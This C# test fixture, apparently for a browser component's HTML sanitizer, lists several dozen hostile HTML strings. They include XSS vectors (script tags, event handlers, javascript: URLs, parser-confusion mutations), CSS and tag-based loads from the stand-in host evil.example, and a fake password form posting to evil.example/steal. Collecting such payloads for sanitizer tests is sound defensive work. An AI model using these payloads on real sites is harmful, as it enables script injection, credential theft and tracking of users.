namespace Lotse.Browser.Tests;

/// <summary>HTML that wants to run something, to ask somebody or to lead astray. Each names the host it would ask, if it could.</summary>
internal static class HostilePayloads
{
    public const string Host = "evil.example";

    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert(1)</script><script src=//evil.example/a.js></script>",
        "<ScRiPt/x>alert(1)</sCrIpT ><<script>script>alert(1)</script>",
        "<img src=x onerror=alert(1)><img src=//evil.example/o.gif width=1 height=1>",
        "<img src=\"&#106;avascript:alert(1)\"><img lowsrc=//evil.example/l.gif dynsrc=//evil.example/d.gif>",
        "<img srcset=\"//evil.example/1.png 1x, //evil.example/2.png 2x\" loading=eager>",
        "<picture><source srcset=//evil.example/s.webp><img src=//evil.example/s.png></picture>",
        "<svg onload=alert(1)><image href=//evil.example/i.svg /><use href=//evil.example/u.svg#a /></svg>",
        "<svg><script>alert(1)</script><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
        "<svg><foreignObject><iframe src=//evil.example/f.html></iframe></foreignObject><style>@import '//evil.example/s.css'</style></svg>",
        "<math><mi xlink:href=\"data:text/html,<script>alert(1)</script>\">x</mi><mtext><img src=x onerror=alert(1)></mtext></math>",
        "<iframe src=//evil.example/f.html></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=//evil.example/o.swf></object><embed src=//evil.example/e.swf><applet code=a codebase=//evil.example></applet>",
        "<link rel=stylesheet href=//evil.example/l.css><link rel=dns-prefetch href=//evil.example><link rel=preload as=image href=//evil.example/p.png>",
        "<style>@import url(//evil.example/i.css);body{background:url(//evil.example/b.png)}</style><p>a</p>",
        "<style>@font-face{font-family:f;src:url(//evil.example/f.woff2)}p{font-family:f}</style><p>a</p>",
        "<p style=\"background-image:url(//evil.example/b.png);list-style:url(//evil.example/l.png);cursor:url(//evil.example/c.cur),auto\">a</p>",
        "<p style=\"background:u\\72l(//evil.example/e.png);--x:url(//evil.example/v.png);background:var(--x)\">a</p>",
        "<p style=\"background:image-set('//evil.example/1.png' 1x);border-image:url(//evil.example/b.png) 1;mask:url(//evil.example/m.svg)\">a</p>",
        "<p style=\"width:expression(alert(1));behavior:url(//evil.example/b.htc);-moz-binding:url(//evil.example/x.xml#a)\">a</p>",
        "<p style=\"content:url(//evil.example/c.png);filter:url(//evil.example/f.svg#a);position:fixed;inset:0;z-index:9\">a</p>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example/r\"><meta http-equiv=refresh content=\"0;javascript:alert(1)\">",
        "<base href=//evil.example/><a href=next>a</a><img src=relative.png>",
        "<form action=//evil.example/steal method=post><input name=password type=password autofocus><button>Sign in again</button></form>",
        "<form id=f></form><button form=f formaction=//evil.example/steal>x</button><input type=image src=//evil.example/i.png formaction=//evil.example/s>",
        "<a href=javascript:alert(1)>a</a><a href=\"java&#10;script:alert(1)\">b</a><a href=vbscript:x>c</a><a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">a</a><a href=\"&#x1;javascript:alert(1)\">b</a><a href=blob:x>c</a><a href=file:///etc/passwd>d</a>",
        "<a href=https://www.example.com ping=//evil.example/ping>a</a><area href=javascript:alert(1)>",
        "<video src=//evil.example/v.mp4 poster=//evil.example/v.png autoplay onloadstart=alert(1)></video><audio src=//evil.example/a.mp3 autoplay></audio>",
        "<video autoplay><source src=//evil.example/v.webm><track src=//evil.example/t.vtt default></video>",
        "<table background=//evil.example/t.png><tr><td background=//evil.example/d.png>a</table><body background=//evil.example/b.png>",
        "<details open ontoggle=alert(1)><summary>a</summary></details><marquee onstart=alert(1)>a</marquee><body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)><select onfocus=alert(1) autofocus></select><textarea autofocus onfocus=alert(1)></textarea>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template><xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math></form>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\"></svg>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><?xml-stylesheet href=\"//evil.example/x.css\"?><!ENTITY x SYSTEM \"//evil.example/e\">",
        "<frameset onload=alert(1)><frame src=//evil.example/f.html></frameset>",
        "<portal src=//evil.example/p></portal><fencedframe></fencedframe><keygen autofocus onfocus=alert(1)><bgsound src=//evil.example/b.mid>",
        "<html manifest=//evil.example/m.appcache><head profile=//evil.example/p><link rel=manifest href=//evil.example/m.json></head><body>a</body></html>",
        "<p onclick=alert(1) onmouseover=alert(1) onanimationstart=alert(1) style=\"animation-name:x\">a</p><style>@keyframes x{}</style>",
        "<div id=work name=body class=row data-turbo-frame=work data-controller=x><a class=btn href=/tickets/1001 data-turbo-method=post>a</a></div>",
        "<turbo-stream action=append target=work><template><b>a</b></template></turbo-stream><turbo-frame id=work src=//evil.example/t></turbo-frame>",
        "<live-updates src=//evil.example/events></live-updates><custom-element onclick=alert(1)>a</custom-element><slot name=x></slot>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>a</p>",
        "<img src=\"cid:no-such\" alt=\"a\" onerror=alert(1)><img src=\"http://127.0.0.1:1/inside.png\"><img src=\"/tickets\">",
    ];
}
